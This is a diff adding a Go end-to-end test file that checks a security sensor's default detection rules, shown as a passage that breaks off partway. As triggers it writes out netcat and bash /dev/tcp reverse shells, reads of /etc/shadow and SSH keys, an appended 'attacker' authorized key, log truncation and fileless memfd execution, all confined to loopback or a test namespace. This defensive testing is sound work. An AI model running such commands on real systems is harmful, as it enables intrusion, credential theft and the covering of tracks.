@@ -1,0 +1,934 @@
+package main
+
+// Privileged end-to-end tests of the default rules: every rule of
+// rules/default/vigil_rules.yaml is triggered by real activity on this
+// kernel (real processes, files, sockets and containers) and must be
+// reported by a running agent with its name, priority and output fields;
+// one benign activity per rule must not be reported. The host rules share
+// one agent, the container rules another one and one containerd.
+//
+// Stand-ins, where the real tool is not on a Debian machine by default:
+//   - netcat is busybox's nc applet, run through a link named nc (what
+//     Debian's netcat-traditional and busybox installs look like to the
+//     kernel: comm "nc");
+//   - the package manager in the container is busybox's dpkg applet, which
+//     the test image links as /usr/bin/dpkg;
+//   - fexecve from a memfd and of an unlinked file is done by this test
+//     binary re-executed in a helper mode (helperMain), which then runs a
+//     copy of /bin/true.
+//
+// The outbound-connection rule ignores loopback, so its reverse shell
+// connects to 192.0.2.1 (TEST-NET-1) held on the loopback device of a
+// network namespace the test creates: nothing leaves that namespace.
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/vigil-sensor/vigil/enrich"
+	"github.com/vigil-sensor/vigil/internal/containerdtest"
+	"github.com/vigil-sensor/vigil/internal/testutil"
+	"github.com/vigil-sensor/vigil/rules"
+)
+
+// Helper modes of the test binary (see TestMain).
+const (
+	helperEnv = "VIGIL_E2E_HELPER"
+	// helperMemfd copies /bin/true into a memfd and runs it with fexecve
+	// (execveat with AT_EMPTY_PATH), with the helper's arguments.
+	helperMemfd = "memfd"
+	// helperDeleted copies /bin/true to the path given as first argument,
+	// opens it, unlinks it and runs it with fexecve.
+	helperDeleted = "deleted"
+)
+
+// helperMain runs the helper mode named by $VIGIL_E2E_HELPER and returns the
+// exit code; on success it does not return.
+func helperMain(mode string, args []string) int {
+	payload, err := os.ReadFile("/bin/true")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 2
+	}
+	var fd int
+	switch mode {
+	case helperMemfd:
+		if fd, err = unix.MemfdCreate("vigil-e2e-payload", 0); err == nil {
+			_, err = unix.Write(fd, payload)
+		}
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "writing memfd:", err)
+			return 2
+		}
+	case helperDeleted:
+		if len(args) == 0 {
+			fmt.Fprintln(os.Stderr, "deleted: no path")
+			return 2
+		}
+		path := args[0]
+		args = args[1:]
+		if err := os.WriteFile(path, payload, 0o755); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 2
+		}
+		if fd, err = unix.Open(path, unix.O_RDONLY, 0); err == nil {
+			err = unix.Unlink(path)
+		}
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "opening and unlinking payload:", err)
+			return 2
+		}
+	default:
+		fmt.Fprintln(os.Stderr, "unknown helper mode", mode)
+		return 2
+	}
+	err = fexecve(fd, append([]string{"vigil-e2e-payload"}, args...), os.Environ())
+	fmt.Fprintln(os.Stderr, "fexecve:", err)
+	return 2
+}
+
+// fexecve runs the file open on fd (execveat with AT_EMPTY_PATH).
+func fexecve(fd int, argv, env []string) error {
+	empty, err := unix.BytePtrFromString("")
+	if err != nil {
+		return err
+	}
+	argvp, err := syscall.SlicePtrFromStrings(argv)
+	if err != nil {
+		return err
+	}
+	envp, err := syscall.SlicePtrFromStrings(env)
+	if err != nil {
+		return err
+	}
+	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
+		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
+	return errno
+}
+
+// defaultRulesFile is the file the default rules are embedded from.
+const defaultRulesFile = "../../rules/default/vigil_rules.yaml"
+
+// markerRule fires on the exec of `true vigil-e2e-marker`: a point in the
+// alert stream that bounds expectNone without streaming every event.
+const (
+	markerRule  = "vigil e2e marker"
+	markerToken = "vigil-e2e-marker"
+	markerRules = `
+- rule: vigil e2e marker
+  desc: A point in the alert stream for vigil's end-to-end tests.
+  condition: evt.type in (execve, execveat) and proc.name = true and proc.args = vigil-e2e-marker
+  output: marker (pid=%proc.pid container=%container.id name=%container.name)
+  priority: DEBUG
+  tags: [test]
+`
+)
+
+// defaultRulesArgs returns `vigil run` arguments that load the default
+// rules (the embedded file, checked identical) followed by the marker rule.
+func defaultRulesArgs(t *testing.T) []string {
+	t.Helper()
+	data, err := os.ReadFile(defaultRulesFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(data, rules.Default().Data) {
+		t.Fatalf("%s differs from the embedded default rules", defaultRulesFile)
+	}
+	marker := filepath.Join(t.TempDir(), "marker.yaml")
+	if err := os.WriteFile(marker, []byte(markerRules), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return []string{"--rules", defaultRulesFile, "--rules", marker}
+}
+
+// mark runs the marker process on the host and returns its pid.
+func mark(t *testing.T) int {
+	return runCommand(t, "true", markerToken)
+}
+
+// fields are an alert's output fields: the values the tests expect, or
+// the values that identify an alert. A value of type contains matches
+// strings that contain it; any other value is compared as text.
+type fields map[string]any
+
+// contains matches a string field holding the substring.
+type contains string
+
+func (f fields) match(got map[string]any, keys []string) bool {
+	for _, k := range keys {
+		if !valueMatches(got[k], f[k]) {
+			return false
+		}
+	}
+	return true
+}
+
+func valueMatches(got, want any) bool {
+	if sub, ok := want.(contains); ok {
+		s, isStr := got.(string)
+		return isStr && strings.Contains(s, string(sub))
+	}
+	if got == nil || want == nil {
+		return got == want
+	}
+	return fmt.Sprint(got) == fmt.Sprint(want)
+}
+
+func (f fields) keys() []string {
+	var ks []string
+	for k := range f {
+		ks = append(ks, k)
+	}
+	slices.Sort(ks)
+	return ks
+}
+
+// alert is an expected alert: the fields in key identify it among the
+// agent's other alerts, every field in want is then checked.
+type alert struct {
+	key  []string
+	want fields
+}
+
+// ruleTest is one default rule: real activity that must trigger it and
+// benign activity that must not.
+type ruleTest struct {
+	rule, priority string
+	// trigger does the activity and returns the alerts it must cause.
+	trigger func(t *testing.T) []alert
+	// benign does the activity and returns what an alert of the rule
+	// about it would carry (key fields only).
+	benign func(t *testing.T) []alert
+}
+
+// recorder reads an agent's records and keeps every alert, so a test can
+// look back at what it did not wait for.
+type recorder struct {
+	*agent
+	alerts []record
+}
+
+func (rc *recorder) next(t *testing.T, deadline <-chan time.Time, what string) (record, bool) {
+	t.Helper()
+	select {
+	case r, ok := <-rc.lines:
+		if !ok {
+			t.Fatalf("%s: vigil's output ended; stderr:\n%s", what, rc.stderr)
+		}
+		if strings.HasPrefix(r.Rule, "INVALID JSON") {
+			t.Fatalf("%s: %s", what, r.Rule)
+		}
+		if r.Source == "syscall" && r.Event == "" {
+			rc.alerts = append(rc.alerts, r)
+		}
+		return r, true
+	case <-deadline:
+		return record{}, false
+	}
+}
+
+// expectAlert waits for an alert of rule matching a.key and checks its
+// priority and a.want. On timeout it lists the near misses it saw: alerts
+// of the rule about something else, and alerts of other rules about the
+// same thing (the agent reports only the first rule that matches).
+func (rc *recorder) expectAlert(t *testing.T, rule, priority string, a alert) record {
+	t.Helper()
+	deadline := time.After(15 * time.Second)
+	var near []string
+	for {
+		r, ok := rc.next(t, deadline, rule)
+		if !ok {
+			t.Fatalf("%s: no alert with %v in 15s; near misses: %q", rule, a.want, near)
+		}
+		same := a.want.match(r.OutputFields, a.key)
+		if r.Rule != rule || !same {
+			if r.Rule == rule || same && r.Source == "syscall" && r.Rule != markerRule {
+				near = append(near, r.Output)
+			}
+			continue
+		}
+		if r.Priority != priority {
+			t.Errorf("%s: priority %q, want %q", rule, r.Priority, priority)
+		}
+		for _, k := range a.want.keys() {
+			if got := r.OutputFields[k]; !valueMatches(got, a.want[k]) {
+				t.Errorf("%s: %s = %v, want %v (alert: %s)", rule, k, got, a.want[k], r.Output)
+			}
+		}
+		return r
+	}
+}
+
+// expectNoAlert checks that no alert of rule matching a.key arrives before
+// the marker, run after the activity under test: the ring buffer keeps the
+// order in which records were reserved, and the activity ended before the
+// marker started.
+func (rc *recorder) expectNoAlert(t *testing.T, rule string, a alert) {
+	t.Helper()
+	pid := mark(t)
+	deadline := time.After(15 * time.Second)
+	for {
+		r, ok := rc.next(t, deadline, rule)
+		if !ok {
+			t.Fatalf("%s: the marker (pid %d) never arrived", rule, pid)
+		}
+		if r.Rule == rule && a.want.match(r.OutputFields, a.key) {
+			t.Errorf("%s: benign activity alerted: %s", rule, r.Output)
+		}
+		if r.Rule == markerRule && num(r.OutputFields["proc.pid"]) == pid {
+			return
+		}
+	}
+}
+
+// run runs the tests of a rule table against rc.
+func (rc *recorder) run(t *testing.T, tests []ruleTest) {
+	for _, tt := range tests {
+		t.Run(strings.ReplaceAll(tt.rule, " ", "_"), func(t *testing.T) {
+			for _, a := range tt.trigger(t) {
+				rc.expectAlert(t, tt.rule, tt.priority, a)
+			}
+			for _, a := range tt.benign(t) {
+				rc.expectNoAlert(t, tt.rule, a)
+			}
+		})
+	}
+}
+
+// randToken returns a short random hex string that makes names unique.
+func randToken() string {
+	var b [4]byte
+	rand.Read(b[:])
+	return hex.EncodeToString(b[:])
+}
+
+// runEnv runs a command with extra environment to completion and returns
+// its pid; a non-zero exit is not an error (the tests look at what the
+// process did, not how it ended).
+func runEnv(t *testing.T, env []string, name string, args ...string) int {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, name, args...)
+	cmd.Env = append(os.Environ(), env...)
+	var stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = io.Discard, &stderr
+	if err := cmd.Run(); err != nil {
+		if _, ok := err.(*exec.ExitError); !ok || ctx.Err() != nil {
+			t.Fatalf("running %s %q: %v: %s", name, args, err, stderr.String())
+		}
+	}
+	return cmd.Process.Pid
+}
+
+// runOK is runEnv for activity that must succeed: a benign activity that
+// failed would prove nothing.
+func runOK(t *testing.T, env []string, name string, args ...string) int {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, name, args...)
+	cmd.Env = append(os.Environ(), env...)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("running %s %q: %v: %s", name, args, err, out)
+	}
+	return cmd.Process.Pid
+}
+
+// tempDir makes a directory below parent, removed when the test ends.
+func tempDir(t *testing.T, parent string) string {
+	t.Helper()
+	dir, err := os.MkdirTemp(parent, "vigil-e2e-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	return dir
+}
+
+// removeAfter removes path when the test ends.
+func removeAfter(t *testing.T, path string) string {
+	t.Cleanup(func() { os.RemoveAll(path) })
+	return path
+}
+
+func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
+	t.Helper()
+	data, err := os.ReadFile(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(dst, data, mode); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// hostEnv is what the host rule tests share.
+type hostEnv struct {
+	tmp   string // a directory below /tmp
+	home  string // a fake home with .ssh
+	bin   string // a link to busybox named nc
+	token string
+	netns string // a network namespace with 192.0.2.1 on lo
+	// shellAddr (192.0.2.1:port, in netns) plays an attacker's handler
+	// of reverse shells; svcAddr (same address) a service; lo is a local
+	// service on the host's loopback.
+	shellAddr, svcAddr         string
+	lo                         net.Listener
+	shellConn, svcConn, loConn <-chan struct{}
+}
+
+// netnsAddr is the address the outbound-connection test connects to,
+// held by the test's own network namespace.
+const netnsAddr = "192.0.2.1"
+
+func TestDefaultRulesHost(t *testing.T) {
+	testutil.RequireRoot(t)
+	busybox := testutil.RequireCommand(t, "busybox")
+	for _, c := range []string{"ip", "bash", "sh", "truncate", "find", "grep", "touch", "cp", "cat"} {
+		testutil.RequireCommand(t, c)
+	}
+	env := &hostEnv{tmp: tempDir(t, "/tmp"), token: randToken()}
+	env.home = filepath.Join(env.tmp, "home")
+	env.bin = filepath.Join(env.tmp, "bin")
+	for _, d := range []string{filepath.Join(env.home, ".ssh"), env.bin} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(busybox, filepath.Join(env.bin, "nc")); err != nil {
+		t.Fatal(err)
+	}
+	env.setupNetwork(t)
+
+	rc := &recorder{agent: startAgent(t, defaultRulesArgs(t)...)}
+	rc.run(t, hostRuleTests(env))
+}
+
+// setupNetwork creates the network namespace and its listeners, and a
+// loopback listener on the host.
+func (env *hostEnv) setupNetwork(t *testing.T) {
+	t.Helper()
+	env.netns = "vigil-e2e-" + env.token
+	ipCmd := func(args ...string) {
+		t.Helper()
+		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
+			t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
+		}
+	}
+	ipCmd("netns", "add", env.netns)
+	t.Cleanup(func() { exec.Command("ip", "netns", "delete", env.netns).Run() })
+	ipCmd("-n", env.netns, "link", "set", "lo", "up")
+	ipCmd("-n", env.netns, "addr", "add", netnsAddr+"/32", "dev", "lo")
+
+	shellLn := listenInNetns(t, "/run/netns/"+env.netns, netnsAddr+":0")
+	env.shellAddr = shellLn.Addr().String()
+	env.shellConn = serve(shellLn, exitShell)
+	svcLn := listenInNetns(t, "/run/netns/"+env.netns, netnsAddr+":0")
+	env.svcAddr = svcLn.Addr().String()
+	env.svcConn = serve(svcLn, hangUp)
+
+	lo, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	env.lo = lo
+	env.loConn = serve(lo, hangUp)
+	t.Cleanup(func() { lo.Close() })
+}
+
+// exitShell is the handler of a reverse shell: it tells the shell to exit.
+func exitShell(c net.Conn) {
+	io.WriteString(c, "exit\n")
+	io.Copy(io.Discard, c)
+}
+
+// hangUp closes the connection at once.
+func hangUp(net.Conn) {}
+
+// serve accepts connections until ln is closed and handles each, then
+// closes it. The channel receives a value per accepted connection, so a
+// test can check that its activity really connected.
+func serve(ln net.Listener, handle func(net.Conn)) <-chan struct{} {
+	accepted := make(chan struct{}, 64)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			select {
+			case accepted <- struct{}{}:
+			default:
+			}
+			go func() {
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(20 * time.Second))
+				handle(c)
+			}()
+		}
+	}()
+	return accepted
+}
+
+// waitConn waits for a connection accepted by a listener of serve.
+func waitConn(t *testing.T, accepted <-chan struct{}, what string) {
+	t.Helper()
+	select {
+	case <-accepted:
+	case <-time.After(10 * time.Second):
+		t.Fatalf("%s: the listener accepted no connection", what)
+	}
+}
+
+// drain empties accepted of connections made before the activity under test.
+func drain(accepted <-chan struct{}) {
+	for {
+		select {
+		case <-accepted:
+		default:
+			return
+		}
+	}
+}
+
+// listenInNetns opens a TCP listener inside the network namespace at
+// nsPath: the socket is created on an OS thread switched into the
+// namespace, which is switched back (or, if that fails, left locked so it
+// dies with its goroutine).
+func listenInNetns(t *testing.T, nsPath, addr string) net.Listener {
+	t.Helper()
+	type result struct {
+		ln  net.Listener
+		err error
+	}
+	done := make(chan result, 1)
+	go func() {
+		runtime.LockOSThread()
+		orig, err := os.Open("/proc/thread-self/ns/net")
+		if err != nil {
+			runtime.UnlockOSThread()
+			done <- result{err: err}
+			return
+		}
+		defer orig.Close()
+		target, err := os.Open(nsPath)
+		if err != nil {
+			runtime.UnlockOSThread()
+			done <- result{err: err}
+			return
+		}
+		defer target.Close()
+		if err := unix.Setns(int(target.Fd()), unix.CLONE_NEWNET); err != nil {
+			runtime.UnlockOSThread()
+			done <- result{err: fmt.Errorf("entering %s: %w", nsPath, err)}
+			return
+		}
+		ln, lerr := net.Listen("tcp4", addr)
+		if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
+			// The thread stays locked and ends with this goroutine.
+			if ln != nil {
+				ln.Close()
+			}
+			done <- result{err: fmt.Errorf("leaving %s: %w", nsPath, err)}
+			return
+		}
+		runtime.UnlockOSThread()
+		done <- result{ln: ln, err: lerr}
+	}()
+	res := <-done
+	if res.err != nil {
+		t.Fatalf("listening in network namespace: %v", res.err)
+	}
+	t.Cleanup(func() { res.ln.Close() })
+	return res.ln
+}
+
+// hostRuleTests are the default rules that apply to host processes (they
+// apply to containers too; the container tests cover the container-only
+// rules).
+func hostRuleTests(env *hostEnv) []ruleTest {
+	// plain runs a program from the disk that no rule cares about, with a
+	// unique argument, and returns the key of an alert about it.
+	plain := func(t *testing.T) []alert {
+		arg := "benign-" + randToken()
+		runOK(t, nil, "/usr/bin/true", arg)
+		return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "true " + arg}}}
+	}
+	// catFile reads a file with cat.
+	catFile := func(t *testing.T, path string) []alert {
+		runOK(t, []string{"HOME=" + env.home}, "cat", path)
+		return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "cat " + path}}}
+	}
+	return []ruleTest{
+		{rule: "Fileless Execution via memfd", priority: "Critical",
+			trigger: func(t *testing.T) []alert {
+				arg := "memfd-" + randToken()
+				runEnv(t, []string{helperEnv + "=" + helperMemfd}, os.Args[0], arg)
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{
+					"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
+					"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
+				}}}
+			},
+			benign: plain},
+		{rule: "Execution of Deleted Binary", priority: "Critical",
+			trigger: func(t *testing.T) []alert {
+				// A dropper's usual form: written to /tmp, opened,
+				// unlinked, run with fexecve.
+				arg := "deleted-" + randToken()
+				path := filepath.Join(env.tmp, "payload-"+arg)
+				runEnv(t, []string{helperEnv + "=" + helperDeleted}, os.Args[0], path, arg)
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{
+					"proc.cmdline": contains(" " + arg), "proc.exepath": contains(path),
+					"container.id": "host",
+				}}}
+			},
+			benign: plain},
+		{rule: "Netcat or Socat Reverse Shell", priority: "Critical",
+			trigger: func(t *testing.T) []alert {
+				// nc -e hands a shell to the listener, which tells it to
+				// exit (busybox's nc takes -e PROG last).
+				ln, err := net.Listen("tcp4", "127.0.0.1:0")
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer ln.Close()
+				accepted := serve(ln, exitShell)
+				port := fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
+				runOK(t, nil, filepath.Join(env.bin, "nc"), "127.0.0.1", port, "-e", "/bin/sh")
+				waitConn(t, accepted, "nc -e")
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{
+					"proc.cmdline": "nc 127.0.0.1 " + port + " -e /bin/sh", "container.id": "host",
+				}}}
+			},
+			benign: func(t *testing.T) []alert {
+				port := fmt.Sprint(env.lo.Addr().(*net.TCPAddr).Port)
+				drain(env.loConn)
+				runOK(t, nil, filepath.Join(env.bin, "nc"), "-w", "2", "127.0.0.1", port)
+				waitConn(t, env.loConn, "nc")
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -w 2 127.0.0.1 " + port}}}
+			}},
+		{rule: "Search for Private Keys or Credentials", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				runCommand(t, "find", env.home, "-name", "id_rsa")
+				runCommand(t, "grep", "-rl", "BEGIN OPENSSH", env.home)
+				return []alert{
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "find " + env.home + " -name id_rsa", "container.id": "host"}},
+					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "grep -rl BEGIN OPENSSH " + env.home}},
+				}
+			},
+			benign: func(t *testing.T) []alert {
+				runOK(t, nil, "find", env.home, "-name", "*.go")
+				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "find " + env.home + " -name *.go"}}}
+			}},
+		{rule: "Execution from Temporary Directory", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				arg := "tmp-" + randToken()
+				path := filepath.Join(env.tmp, "payload")
+				copyFile(t, "/bin/true", path, 0o755)
+				runCommand(t, path, arg)
+				return []alert{{key: []string{"proc.exepath", "proc.cmdline"}, want: fields{
+					"proc.exepath": path, "proc.cmdline": "payload " + arg, "user.uid": 0,
+				}}}
+			},
+			benign: plain},
+		{rule: "Execution from Shared Memory", priority: "Error",
+			trigger: func(t *testing.T) []alert {
+				path := removeAfter(t, "/dev/shm/vigil-e2e-"+env.token)
+				copyFile(t, "/bin/true", path, 0o755)
+				runCommand(t, path)
+				return []alert{{key: []string{"proc.exepath"}, want: fields{"proc.exepath": path, "user.uid": 0}}}
+			},
+			benign: plain},
+		{rule: "Read Shadow or Sudoers File", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				runCommand(t, "cat", "/etc/shadow")
+				return []alert{{key: []string{"fd.name", "proc.cmdline"}, want: fields{
+					"fd.name": "/etc/shadow", "proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "user.uid": 0,
+				}}}
+			},
+			benign: func(t *testing.T) []alert { return catFile(t, "/etc/hostname") }},
+		{rule: "Read SSH Private Key", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				key := filepath.Join(env.home, ".ssh", "id_ed25519")
+				os.WriteFile(key, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n"), 0o600)
+				os.WriteFile(key+".pub", []byte("ssh-ed25519 AAAA vigil-e2e\n"), 0o644)
+				catFile(t, key)
+				return []alert{{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": key, "proc.name": "cat"}}}
+			},
+			benign: func(t *testing.T) []alert {
+				return catFile(t, filepath.Join(env.home, ".ssh", "id_ed25519.pub"))
+			}},
+		{rule: "Write Below Binary Directory", priority: "Error",
+			trigger: func(t *testing.T) []alert {
+				path := removeAfter(t, "/usr/local/bin/vigil-e2e-"+env.token)
+				runCommand(t, "cp", "/bin/true", path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "cp"}}}
+			},
+			benign: func(t *testing.T) []alert { return catFile(t, "/usr/bin/true") }},
+		{rule: "Write Below Library Directory", priority: "Error",
+			trigger: func(t *testing.T) []alert {
+				path := removeAfter(t, "/usr/local/lib/vigil-e2e-"+env.token+".so")
+				runCommand(t, "touch", path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch"}}}
+			},
+			benign: func(t *testing.T) []alert {
+				// Python's bytecode cache below a library directory.
+				dir := removeAfter(t, "/usr/local/lib/vigil-e2e-"+env.token)
+				if err := os.MkdirAll(filepath.Join(dir, "__pycache__"), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				path := filepath.Join(dir, "__pycache__", "mod.cpython-311.pyc")
+				runOK(t, nil, "touch", path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path}}}
+			}},
+		{rule: "Modify SSH Authorized Keys", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				path := filepath.Join(env.home, ".ssh", "authorized_keys")
+				runCommand(t, "sh", "-c", "echo 'ssh-ed25519 AAAA attacker' >> "+path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "sh"}}}
+			},
+			benign: func(t *testing.T) []alert {
+				return catFile(t, filepath.Join(env.home, ".ssh", "authorized_keys"))
+			}},
+		{rule: "Write to Cron Configuration", priority: "Notice",
+			trigger: func(t *testing.T) []alert {
+				if _, err := os.Stat("/etc/cron.d"); os.IsNotExist(err) {
+					removeAfter(t, "/etc/cron.d")
+					if err := os.Mkdir("/etc/cron.d", 0o755); err != nil {
+						t.Fatal(err)
+					}
+				}
+				path := removeAfter(t, "/etc/cron.d/vigil-e2e-"+env.token)
+				runCommand(t, "touch", path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch"}}}
+			},
+			benign: func(t *testing.T) []alert { return catFile(t, "/etc/cron.d/vigil-e2e-"+env.token) }},
+		{rule: "Truncate Log File", priority: "Warning",
+			trigger: func(t *testing.T) []alert {
+				path := removeAfter(t, "/var/log/vigil-e2e-"+env.token+".log")
+				// Created by appending, which the rule allows.
+				f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o640)
+				if err != nil {
+					t.Fatal(err)
+				}
+				f.WriteString("Accepted publickey for root\n")
+				f.Close()
+				runCommand(t, "sh", "-c", ": > "+path)
+				runCommand(t, "truncate", "-s", "0", path)
+				return []alert{
+					{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "sh", "evt.arg.flags": contains("O_TRUNC")}},
+					{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "truncate"}},
+				}
+			},
+			benign: func(t *testing.T) []alert {
+				path := "/var/log/vigil-e2e-" + env.token + ".log"
+				runOK(t, nil, "sh", "-c", "echo more >> "+path)
+				return []alert{{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": path, "proc.name": "sh"}}}
+			}},
+		{rule: "Write Below Etc", priority: "Error",
+			trigger: func(t *testing.T) []alert {
+				path := removeAfter(t, "/etc/vigil-e2e-"+env.token)
+				runCommand(t, "touch", path)
+				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch", "user.uid": 0}}}
+			},
+			benign: func(t *testing.T) []alert { return catFile(t, "/etc/hostname") }},
+		{rule: "Outbound Connection by Non-Network Program", priority: "Critical",
+			trigger: func(t *testing.T) []alert {
+				// A bash reverse shell through /dev/tcp; the handler tells
+				// it to exit.
+				host, port, _ := net.SplitHostPort(env.shellAddr)
+				runOK(t, nil, "ip", "netns", "exec", env.netns, "bash", "-c",
+					"exec bash -i &>/dev/tcp/"+host+"/"+port+" 0>&1")
+				waitConn(t, env.shellConn, "bash reverse shell")
+				return []alert{{key: []string{"proc.name", "fd.name"}, want: fields{
+					"proc.name": "bash", "fd.name": contains("->" + env.shellAddr), "container.id": "host",
+				}}}
+			},
+			benign: func(t *testing.T) []alert {
+				// A shell talking to a local service (a health check), and a
+				// network client talking to the same remote address.
+				port := fmt.Sprint(env.lo.Addr().(*net.TCPAddr).Port)
+				drain(env.loConn)
+				runOK(t, nil, "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+port)
+				waitConn(t, env.loConn, "bash to loopback")
+				host, sport, _ := net.SplitHostPort(env.svcAddr)
+				runOK(t, nil, "ip", "netns", "exec", env.netns, filepath.Join(env.bin, "nc"), "-w", "2", host, sport)
+				waitConn(t, env.svcConn, "nc to the service")
+				return []alert{
+					{key: []string{"fd.name"}, want: fields{"fd.name": contains("->127.0.0.1:" + port)}},
+					{key: []string{"fd.name"}, want: fields{"fd.name": contains("->" + env.svcAddr)}},
+				}
+			}},
+	}
+}
+
+// containerName is the name the container tests give their container
+// (Kubernetes' container-name label, which vigil shows as container.name).
+const containerName = "vigil-e2e-web"
+
+func TestDefaultRulesContainer(t *testing.T) {
+	testutil.RequireRoot(t)
+	for _, c := range []string{"containerd", "ctr", "containerd-shim-runc-v2", "runc", "busybox", "dpkg", "sh"} {
+		testutil.RequireCommand(t, c)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	d, err := containerdtest.Start(ctx, containerdtest.Options{})
+	if err != nil {
+		t.Fatalf("starting containerd: %v", err)
+	}
+	t.Cleanup(func() {
+		if err := d.Stop(); err != nil {
+			t.Errorf("stopping containerd: %v", err)
+		}
+	})
+	rc := &recorder{agent: startAgent(t, append(defaultRulesArgs(t), "--containerd-socket", d.Socket)...)}
+	c := d.MustRun(t, containerdtest.ContainerSpec{Labels: map[string]string{enrich.LabelContainerName: containerName}})
+	rc.waitContainerKnown(t, c)
+	rc.run(t, containerRuleTests(c))
+
+	// runc re-executes itself from a memfd to start and exec into
+	// containers: that is not fileless malware.
+	for _, r := range rc.alerts {
+		if r.Rule == "Fileless Execution via memfd" {
+			t.Errorf("runc's memfd re-exec alerted: %s", r.Output)
+		}
+	}
+}
+
+// waitContainerKnown runs the marker in c until an alert about it carries
+// the container's name: enrichment answers asynchronously, and the tests
+// assert on metadata.
+func (rc *recorder) waitContainerKnown(t *testing.T, c *containerdtest.Container) {
+	t.Helper()
+	deadline := time.After(20 * time.Second)
+	for {
+		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+		out, err := c.Exec(ctx, "true", markerToken)
+		cancel()
+		if err != nil {
+			t.Fatalf("running the marker in the container: %v: %s", err, out)
+		}
+		for {
+			r, ok := rc.next(t, deadline, "container metadata")
+			if !ok {
+				t.Fatalf("no marker alert with the container's name in 20s; stderr:\n%s", rc.stderr)
+			}
+			if r.Rule != markerRule || r.OutputFields["container.id"] != c.ID[:12] {
+				continue
+			}
+			if r.OutputFields["container.name"] == containerName {
+				return
+			}
+			break
+		}
+	}
+}
+
+// containerRuleTests are the rules about containers, run in c. Their
+// alerts must name the container and its image.
+func containerRuleTests(c *containerdtest.Container) []ruleTest {
+	exec := func(t *testing.T, argv ...string) {
+		t.Helper()
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		// A non-zero exit is fine: the tests look at what the process did.
+		if out, err := c.Exec(ctx, argv...); err != nil && !strings.Contains(err.Error(), "exit status") {
+			t.Fatalf("exec %q in the container: %v: %s", argv, err, out)
+		}
+	}
+	inContainer := func(f fields) fields {
+		f["container.id"] = c.ID[:12]
+		f["container.name"] = containerName
+		f["container.image.repository"] = "docker.io/vigil/busybox"
+		return f
+	}
+	key := []string{"container.id", "proc.cmdline"}
